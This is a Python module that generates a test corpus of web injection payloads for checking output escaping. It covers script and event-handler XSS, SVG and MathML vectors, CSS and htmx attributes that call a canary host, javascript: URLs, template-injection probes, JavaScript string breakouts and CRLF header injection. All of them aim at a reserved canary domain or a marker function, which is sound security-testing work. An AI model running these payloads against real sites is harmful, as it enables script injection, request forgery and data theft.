"""Text that wants to be more than text: ways out of where text stands, crossed with ways to run and ways to call out.

What runs says so by `seen(…)`, by asking FAR or NEAR, or by singing. Markdown has its own (hostile.py).
"""

from collections.abc import Iterator
from typing import NamedTuple

HOST = "canary.invalid"  # nobody has it, and nobody ever will (RFC 6761)
FAR, NEAR = f"//{HOST}/asked", "/canary/asked"
SANG = "canary-sang"  # what a template makes of it that evaluates what is put into it


class Injection(NamedTuple):
    """A text, and what kind of thing it wants to be taken for."""

    family: str
    text: str


WAYS_OUT = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "--><!-- -->", "]]>", "</select>", "</p></main>", "`>",
)  # fmt: skip
ELEMENTS = (
    "<script>seen()</script>",
    f"<script src={FAR}></script>",
    f"<ScRiPt\nsrc={NEAR}></sCrIpT>",
    "<script type=module>seen()</script>",
    "<img src=x onerror=seen()>",
    "<img/src=x/onerror=confirm()>",
    "<img src=x onerror=&#115;een()>",
    f"<img src={FAR}>",
    f"<img srcset={NEAR}>",
    f"<picture><source srcset={FAR}><img></picture>",
    f"<input type=image src={NEAR}>",
    "<input autofocus onfocus=seen()>",
    "<select autofocus onfocus=seen()></select>",
    "<textarea autofocus onfocus=prompt()>",
    "<details open ontoggle=seen()>x</details>",
    "<p onmouseover=seen()>x</p>",
    "<b onpointerenter=alert()>x</b>",
    "<marquee onstart=seen()>x</marquee>",
    "<body onpageshow=seen()>",
    f"<body background={FAR}>",
    "<video><source onerror=seen()></video>",
    f"<audio src={NEAR}></audio>",
    f"<video poster={FAR}></video>",
    "<iframe src=javascript:parent.seen()></iframe>",
    "<iframe srcdoc='<script>parent.seen()</script>'></iframe>",
    f"<iframe src={NEAR}></iframe>",
    f"<object data={FAR}></object>",
    f"<embed src={NEAR}>",
    f"<template shadowrootmode=open><img src={FAR}></template>",
    f"<meta http-equiv=refresh content=0;url={NEAR}>",
    f"<base href={FAR}/><img src=one>",
    f"<form action={FAR}><button autofocus>x</button></form>",
    f"<form id=f></form><button form=f formaction={NEAR}>x</button>",
    f"<a href=javascript:seen() ping={FAR}>x</a>",
)
DRAWINGS = (
    "<svg onload=seen()>",
    "<svg><script>seen()</script></svg>",
    f"<svg><script href={FAR}></script></svg>",
    "<svg><animate onbegin=seen() attributeName=x dur=1s>",
    "<svg><set onbegin=seen() attributeName=x to=1>",
    f"<svg><image href={FAR}></svg>",
    f"<svg><use href={NEAR}#x></svg>",
    "<svg><foreignObject><img src=x onerror=seen()></foreignObject></svg>",
    "<svg><a href=javascript:seen()><text y=9>x</text></a></svg>",
    "<math><mi//xlink:href=javascript:seen()>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=seen()></annotation-xml></math>",
)
SHEETS = (
    f"<style>@import '{FAR}'</style>",
    f"<style>*{{background:url({NEAR})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({FAR})}}*{{font-family:x}}</style>",
    f"<link rel=stylesheet href={FAR}>",
    f"<link rel=icon href={NEAR}>",
    f"<p style=background:url({FAR})>x</p>",
    f"<p style=\"--a:url({NEAR});list-style:var(--a);display:list-item\">x</p>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=seen()>x</p>",
)  # fmt: skip
GADGETS = (
    f"<div hx-get={NEAR} hx-trigger=load>x</div>",
    f"<div data-hx-get={NEAR} data-hx-trigger=load>x</div>",
    f"<div data-hx-post={NEAR} data-hx-trigger=revealed>x</div>",
    f"<div hx-put={NEAR} hx-trigger='load delay:1ms'>x</div>",
    f"<div data-hx-delete={NEAR} data-hx-trigger='every 50ms'>x</div>",
    f"<div hx-patch={NEAR} hx-trigger='mouseover from:body'>x</div>",
    f"<div hx-get={FAR} hx-trigger=load hx-request='{{\"noHeaders\":true}}'>x</div>",
    "<div hx-on::load=seen()>x</div>",
    "<div hx-on:htmx:load=seen()>x</div>",
    "<div data-hx-on-mouseover=seen()>x</div>",
    "<div data-hx-on:mouseover=seen()>x</div>",
    f"<div data-hx-get={NEAR} data-hx-trigger='load[seen()]'>x</div>",
    f"<div hx-get={NEAR} hx-trigger=load hx-vals='js:{{a:seen()}}'>x</div>",
    f"<div hx-get={NEAR} hx-trigger=load data-hx-vals='javascript:{{a:seen()}}'>x</div>",
    f"<div hx-get={NEAR} hx-trigger=load hx-headers='js:{{a:seen()}}'>x</div>",
    f"<div hx-get={NEAR} hx-trigger=load hx-request='js:{{timeout:seen()}}'>x</div>",
    f"<div hx-get={NEAR} hx-trigger=load hx-confirm=really>x</div>",
    f"<div hx-get={NEAR} hx-trigger=load hx-prompt=what>x</div>",
    f"<div data-hx-get={NEAR} data-hx-trigger=load data-hx-push-url={NEAR}>x</div>",
    f"<main id=main hx-swap-oob=true><img src={FAR}></main>",
    f"<div data-hx-boost=true><form action={NEAR} data-hx-trigger=load><input></form></div>",
    f"<div hx-ext=sse sse-connect={NEAR} sse-swap=message>x</div>",
    f"<div hx-ext=ws ws-connect={FAR}>x</div>",
    f"<p data-live-on=inbox data-hx-get={NEAR} data-hx-trigger=live>x</p>",
    f"<span data-announce=x data-live-part data-hx-get={NEAR} data-hx-trigger=mouseover>x</span>",
    f'<meta name=htmx-config content=\'{{"allowEval":true,"selfRequestsOnly":false}}\'><p hx-get={FAR} hx-trigger=load>x</p>',
)
QUOTES = ('" {} x="', "' {} x='", " {} ")
ATTRIBUTES = (
    "onmouseover=seen()",
    "onfocus=seen() autofocus",
    "onpointerenter=alert()",
    "onerror=seen() src=x",
    f"style=background:url({FAR})",
    f"background={FAR}",
    f"data-hx-get={NEAR} data-hx-trigger=load",
    f"hx-get={NEAR} hx-trigger=mouseover",
    "hx-on::load=seen()",
    "data-hx-on:mouseover=seen()",
    f"srcset={FAR}",
    f"data-live-on=inbox data-hx-get={NEAR} data-hx-trigger=live",
)
ADDRESSES = (
    "javascript:seen()",
    "JaVaScRiPt:seen()",
    "java\tscript:seen()",
    "\x01javascript:seen()",
    "javascript://%0aseen()",
    "javascript://example.org/%0aseen()",
    "javascript:/*https://example.org*/seen()",
    "javascript&colon;seen()",
    "data:text/html,<script>parent.seen()</script>",
    "data:image/svg+xml,<svg onload=seen()>",
    "vbscript:seen()",
    f"https:{FAR}' onmouseover='seen()",
    f'https:{FAR}" onmouseover="seen()',
    f"https:{FAR}><script>seen()</script>",
    "https://javascript:seen()@/",
    "[x](javascript:seen())",
    f"![x](https:{FAR})",
    f"<https:{FAR}>",
)
TEMPLATES = (
    '{{ "canary-" ~ "sang" }}',
    '{% set a = "canary-" %}{{ a ~ "sang" }}',
    '{{ ["canary", "sang"] | join("-") }}',
    "${'canary-' + 'sang'}",
    "<%= 'canary-' + 'sang' %>",
    "#{'canary-' + 'sang'}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ constructor.constructor('seen()')() }}",
    "{0.__class__} {site} {}",
    "%(person)s %(name)s %s %d %",
)
PROGRAMS = (
    "';seen();//",
    '";seen();//',
    "`;seen();`${seen()}",
    "\\';seen();//",
    '"});seen();({"a":"',
    '"}</script><script>seen()</script>',
    "</script><script>seen()//",
    "<!--<script>\n</script><img src=x onerror=seen()>",
    "\u2028seen()\u2029",
    "\\u003cscript\\u003eseen()\\u003c/script\\u003e",
)
RULES = (f"x;background:url({FAR})", f"}}*{{background:url({NEAR})}}", f"');@import '{FAR}';", "expression(seen())")
HEADERS = (
    f"x\r\nRefresh: 0;url={NEAR}\r\n",
    f"x\r\nLink: <{FAR}>; rel=stylesheet\r\n",
    'x\r\nHX-Trigger: {"announce":{"value":"x"}}',
    f"x\nHX-Redirect: {NEAR}",
    "x\r\n\r\n<script>seen()</script>",
    f"%0d%0aRefresh:0;url={NEAR}",
)
FAMILIES = {
    "element": ELEMENTS, "drawing": DRAWINGS, "sheet": SHEETS, "gadget": GADGETS, "attribute": ATTRIBUTES, "address": ADDRESSES,
    "template": TEMPLATES, "program": PROGRAMS, "rule": RULES, "header": HEADERS,
}  # fmt: skip
CROSSED = {"element": WAYS_OUT, "drawing": WAYS_OUT, "sheet": WAYS_OUT, "gadget": WAYS_OUT}
TURNS = 3


def injections() -> list[Injection]:
    """All of them, each once; every harm of HTML with three ways out by turns, every attribute in each kind of quotes."""
    return list(dict.fromkeys(Injection(family, text) for family in FAMILIES for text in _texts(family)))


def _texts(family: str) -> Iterator[str]:
    for number, harm in enumerate(FAMILIES[family]):
        if family == "attribute":
            yield from (quotes.format(harm) for quotes in QUOTES)
        elif family in CROSSED:
            yield from (WAYS_OUT[(number * TURNS + turn * 5) % len(WAYS_OUT)] + harm for turn in range(TURNS))
        else:
            yield harm
